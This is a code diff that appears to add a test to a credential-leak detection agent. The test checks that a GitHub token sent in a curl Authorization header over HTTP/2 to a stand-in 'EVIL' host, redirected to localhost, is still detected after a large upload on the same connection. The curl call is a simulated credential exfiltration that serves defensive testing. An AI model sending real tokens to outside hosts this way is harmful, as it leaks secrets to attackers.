@@ -213,6 +213,46 @@ def test_curl_http2_hpack():
     agent.assert_no_plaintext(token)
 
 
+def test_curl_http2_request_after_a_bulk_upload_on_the_same_connection():
+    """Past the payload budget the middle of an upload is not copied: the HTTP/2 decoder is
+    told of the hole and decodes the next request's (Huffman-coded) headers."""
+    require_root()
+    if not shutil.which("nghttpd"):
+        raise Skip("nghttpd is not installed (scripts/setup installs nghttp2-server)")
+    d = tempfile.mkdtemp(prefix="cw-h2gap-")
+    cert, key = self_signed(d)
+    port = free_port()
+    srv = subprocess.Popen(["nghttpd", "-d", d, str(port), key, cert],
+                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    time.sleep(0.5)
+    agent = Agent("--include-loopback")
+    token = github_token()
+    try:
+        big = os.path.join(d, "big.bin")
+        with open(big, "wb") as f:
+            f.write(os.urandom(2 << 20))
+        hdr = os.path.join(d, "hdr")
+        with open(hdr, "w") as f:
+            f.write("Authorization: token %s\n" % token)
+        url = "https://%s:%d/" % (EVIL, port)
+        common = ["-sk", "--http2", "--resolve", "%s:%d:127.0.0.1" % (EVIL, port), "-o",
+                  "/dev/null", "-w", "%{http_version} %{num_connects}\n"]
+        r = subprocess.run(["curl", *common, "-T", big, url + "up", "--next", *common,
+                            "-H", "@" + hdr, url + "v1"], capture_output=True, text=True)
+        assert r.stdout.split("\n")[:2] == ["2 1", "2 0"], r.stdout	# h2, one connection
+        hits = wait_own(agent, token, "credential-unexpected-destination")
+    finally:
+        agent.stop()
+        srv.kill()
+        shutil.rmtree(d, ignore_errors=True)
+    assert len(hits) == 1, agent.stderr()
+    assert hits[0]["network"]["protocol"] == "http2"
+    assert "holes past the payload budget" in agent.stderr()
+    holes = int(agent.stderr().split(" holes past the payload budget")[0].split("(")[-1])
+    assert holes >= 1, agent.stderr()
+    agent.assert_no_plaintext(token)
+
+
 GO_CLIENT = r'''
 package main
 
